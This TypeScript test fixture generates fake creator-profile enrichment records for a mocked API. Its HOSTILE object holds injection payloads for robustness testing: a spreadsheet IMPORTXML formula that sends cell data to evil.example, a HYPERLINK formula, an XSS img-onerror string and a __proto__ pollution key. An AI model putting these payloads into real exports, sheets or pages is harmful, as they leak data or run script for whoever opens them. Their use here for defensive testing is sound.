// What is found for a record: a function of the record and what the batch asks alone, so that a test can compute the right answer itself.
// The shapes follow the single endpoints; for batches none is documented.

import { digest, numberFrom } from '../repeatable';
import { magicIn } from './magic';
import { normalised } from './record';
import { PLATFORMS, type Platform, type Wanted } from './state';

/** A bigint travels as a raw JSON number. */
export type ProfileValue = null | boolean | number | bigint | string | ProfileValue[] | { [key: string]: ProfileValue };
export type Profile = { [key: string]: ProfileValue };

const HUGE_CHARACTERS = 400_000;

/** The enrichment data of a record that is found. */
export function profileOf(record: string, wanted: Wanted): Profile {
  const found = FINDERS[wanted.mode](record, wanted);
  return magicIn([record], 'hostile') === null ? found : hostile(found, wanted);
}

const FINDERS: Record<Wanted['mode'], (record: string, wanted: Wanted) => Profile> = {
  raw: (record, wanted) => ({ [wanted.platform!]: account(normalised(record, wanted), wanted.platform!) }),
  full: (record, wanted) => fullProfile(record, wanted),
  basic: (record, wanted) => {
    const platform = strongest(record, wanted);
    const name = nameOf(record);
    return {
      platform,
      userId: idOf(name, platform),
      url: `https://${platform}.example/${name}`,
      username: name,
      fullname: fullName(name),
      picture: `https://pictures.example/${name}.jpg`,
      followers: followersOf(name, platform, wanted),
    };
  },
  advanced: (record, wanted) => {
    const name = nameOf(record);
    const members = PLATFORMS.filter(
      (platform) => platform !== wanted.excludePlatforms && hasAccount(name, platform),
    ).map((platform) => [platform, account(name, platform, wanted.minFollowers)]);
    return { ...Object.fromEntries(members), email: record.trim().toLowerCase(), first_name: firstName(name) };
  },
};

function fullProfile(record: string, wanted: Wanted): Profile {
  const platform = wanted.platform!;
  const name = normalised(record, wanted);
  const hasEmail = magicIn([record], 'noemail') === null;
  const own = account(name, platform);
  const hasAudience = wanted.audience && ['instagram', 'tiktok', 'youtube'].includes(platform);
  if (hasAudience) own.audience = audience(name, magicIn([record], 'huge') !== null);
  const profile: Profile = {
    [platform]: own,
    email: hasEmail ? `hello@${name.replace(/[^a-z0-9]+/g, '-')}.example` : null,
    email_type: hasEmail ? 'role_based_email' : null,
    first_name: firstName(name),
    gender: pick(['female', 'male', null], numberFrom(name, 3)),
    location: pick(['Lisbon, Portugal', 'Leeds, United Kingdom', 'Łódź, Poland'], numberFrom(name, 3)),
    speaking_language: pick(['pt', 'en', 'pl'], numberFrom(name, 3)),
    is_creator: true,
    is_business: numberFrom(name, 2) === 0,
    has_brand_deals: numberFrom(`${name} deals`, 2) === 0,
    has_link_in_bio: true,
    [`${platform}_link`]: `https://${platform}.example/${name}`,
    creator_has: { [platform]: true, podcast: numberFrom(`${name} podcast`, 4) === 0 },
    links_in_bio: [`https://links.example/${name}`],
    other_links: [],
  };
  if (wanted.lookalikes)
    profile.lookalikes = [1, 2, 3].map((n) => ({ username: `${name}_like_${n}`, score: 1 - n / 10 }));
  return profile;
}

/** Names of members differ by platform, as they do at the service. */
function account(name: string, platform: Platform, least = 0): Profile {
  const followers = Math.max(least, 500 + numberFrom(`${name} ${platform}`, 900_000));
  const base: Profile = { userid: idOf(name, platform), exists: true, username: name };
  if (platform === 'youtube') {
    return { ...base, id: `UC${digest(name).slice(0, 22)}`, custom_url: `@${name}`, subscriber_count: followers };
  }
  if (platform === 'twitch') return { ...base, displayName: fullName(name), total_followers: followers };
  return {
    ...base,
    full_name: fullName(name),
    biography: `Sample creator. ${pick(['Food', 'Travel', 'Code'], numberFrom(name, 3))} & more.\nSay hello!`,
    category: pick(['Blogger', 'Artist', 'Coach'], numberFrom(name, 3)),
    media_count: numberFrom(`${name} media`, 2000),
    follower_count: followers,
    following_count: numberFrom(`${name} following`, 1500),
    is_private: false,
    is_business_account: numberFrom(name, 2) === 0,
    is_verified: numberFrom(`${name} verified`, 5) === 0,
    links_in_bio: [`https://links.example/${name}`],
    post_data: [1, 2].map((n) => ({ post_id: `${n}`, likes: numberFrom(`${name} post ${n}`, 5000) })),
  };
}

function audience(name: string, isHuge: boolean): Profile {
  const row = (n: number) => ({
    code: `C${n}`,
    name: `Sample place ${n}`,
    weight: numberFrom(`${name} ${n}`, 1000) / 1000,
  });
  // About 54 characters a row.
  const rows = isHuge ? Math.ceil(HUGE_CHARACTERS / 50) : 3;
  return { genders: [{ code: 'FEMALE', weight: 0.6 }], geo: Array.from({ length: rows }, (_, n) => row(n)) };
}

function strongest(record: string, wanted: Wanted): Platform {
  const open = PLATFORMS.filter((platform) => platform !== wanted.excludePlatforms);
  return pick(open, numberFrom(record.trim().toLowerCase(), open.length));
}

function hasAccount(name: string, platform: Platform): boolean {
  return platform === 'instagram' || numberFrom(`${name} on ${platform}`, 2) === 0;
}

function followersOf(name: string, platform: Platform, wanted: Wanted): number {
  return Math.max(wanted.minFollowers, 500 + numberFrom(`${name} ${platform}`, 900_000));
}

function hostile(found: Profile, wanted: Wanted): Profile {
  const member =
    wanted.platform === null ? {} : { [wanted.platform]: { ...(found[wanted.platform] as Profile), ...HOSTILE } };
  return { ...found, ...HOSTILE, ...member, ['__proto__']: { polluted: 'yes' } };
}

const HOSTILE: Profile = {
  username: '=HYPERLINK("https://evil.example","x")',
  fullname: '+1 555 0100',
  full_name: '@SUM(A1)',
  biography: '-2+3\n<img src=x onerror=alert(1)></script>',
  email: '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  first_name: "'quoted",
  follower_count: 17841401234567891n,
  followers: 17841401234567891n,
  location: '1/2/2024',
  category: '#REF!',
  long_text: 'x'.repeat(60_000),
  controls: 'a\u0000b\r\nc\u202Ed\u2028e',
  leading_zero: '007',
  constructor: 'not a function',
};

function nameOf(record: string): string {
  return record.trim().toLowerCase().split('@')[0]!;
}

function firstName(name: string): string {
  const word = name.split(/[._-]/)[0] ?? '';
  return word.slice(0, 1).toUpperCase() + word.slice(1);
}

function fullName(name: string): string {
  return `${firstName(name)} ${pick(['Sample', 'Núñez', 'Weiß'], numberFrom(name, 3))}`;
}

/** Seventeen digits, as text: more than a spreadsheet's numbers hold. */
function idOf(name: string, platform: string): string {
  return `178414${String(numberFrom(`${name} ${platform} id`, 1e9)).padStart(11, '0')}`;
}

function pick<T>(list: readonly T[], number: number): T {
  return list[number % list.length]!;
}
